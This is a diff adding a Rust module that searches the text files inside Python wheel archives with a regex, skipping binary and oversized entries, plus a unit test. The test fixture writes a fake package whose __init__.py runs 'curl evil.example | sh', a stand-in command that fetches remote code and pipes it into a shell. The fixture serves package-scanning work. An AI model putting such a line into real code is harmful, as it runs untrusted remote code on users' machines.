@@ -0,0 +1,122 @@
+use std::io::Read;
+use std::io::Seek;
+
+use regex::Regex;
+
+use crate::Wheel;
+use crate::WheelError;
+
+/// Controls which entries [`Wheel::grep`] searches.
+#[derive(Clone, Copy, Debug, Eq, PartialEq)]
+#[non_exhaustive]
+pub struct GrepOptions {
+    /// Entries larger than this many bytes are skipped rather than searched.
+    pub max_file_size: u64,
+}
+
+impl Default for GrepOptions {
+    fn default() -> Self {
+        Self {
+            max_file_size: 10 << 20,
+        }
+    }
+}
+
+impl GrepOptions {
+    pub fn max_file_size(mut self, max_file_size: u64) -> Self {
+        self.max_file_size = max_file_size;
+        self
+    }
+}
+
+/// A match found by [`Wheel::grep`].
+#[derive(Clone, Debug, Eq, PartialEq)]
+#[non_exhaustive]
+pub struct GrepMatch {
+    pub path: String,
+    /// Byte offset of the match within the uncompressed entry.
+    pub offset: usize,
+    pub text: String,
+}
+
+impl<R: Read + Seek> Wheel<R> {
+    /// Searches the text files in the archive for `pattern`, one entry at a time.
+    /// Matches are returned in archive order, and by offset within each entry.
+    ///
+    /// Entries which aren't valid UTF-8 or contain a NUL byte are treated as binary
+    /// and skipped, as are entries larger than [`GrepOptions::max_file_size`].
+    pub fn grep(
+        &mut self,
+        pattern: &Regex,
+        options: &GrepOptions,
+    ) -> Result<Vec<GrepMatch>, WheelError> {
+        let mut matches = Vec::new();
+        let mut contents = Vec::new();
+        for i in 0..self.archive.len() {
+            let zip_file = self.archive.by_index(i)?;
+            if zip_file.is_dir() || zip_file.size() > options.max_file_size {
+                continue;
+            }
+            let path = zip_file.name().to_owned();
+            self.limits.check_size(&path, None, zip_file.size())?;
+
+            contents.clear();
+            self.limits
+                .take_entry(zip_file)
+                .take(options.max_file_size + 1)
+                .read_to_end(&mut contents)?;
+            self.limits.check_size(&path, None, contents.len() as u64)?;
+            if contents.len() as u64 > options.max_file_size || contents.contains(&0) {
+                continue;
+            }
+            let Ok(text) = std::str::from_utf8(&contents) else {
+                continue;
+            };
+            matches.extend(pattern.find_iter(text).map(|m| GrepMatch {
+                path: path.clone(),
+                offset: m.start(),
+                text: m.as_str().to_owned(),
+            }));
+        }
+        Ok(matches)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use std::io::Cursor;
+    use std::io::Write;
+
+    use zip::write::FileOptions;
+    use zip::ZipWriter;
+
+    use super::*;
+
+    use pretty_assertions::assert_eq;
+
+    #[test]
+    fn test_grep() -> Result<(), WheelError> {
+        let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
+        writer.start_file("demo/__init__.py", FileOptions::default())?;
+        writer.write_all(b"import os\nos.system('curl evil.example | sh')\n")?;
+        writer.start_file("demo/_native.so", FileOptions::default())?;
+        writer.write_all(b"\x7fELF\0curl evil.example")?;
+        writer.start_file("demo/big.txt", FileOptions::default())?;
+        writer.write_all(&[b'x'; 64])?;
+        writer.write_all(b"curl evil.example")?;
+        let reader = writer.finish()?;
+
+        let mut wheel = Wheel::open("demo-1.0-py3-none-any.whl", reader)?;
+        let pattern = Regex::new(r"curl \S+").unwrap();
+        assert_eq!(
+            wheel.grep(&pattern, &GrepOptions::default().max_file_size(64))?,
+            vec![GrepMatch {
+                path: "demo/__init__.py".to_string(),
+                offset: 21,
+                text: "curl evil.example".to_string(),
+            }],
+        );
+        assert_eq!(wheel.grep(&pattern, &GrepOptions::default())?.len(), 2);
+        Ok(())
+    }
+}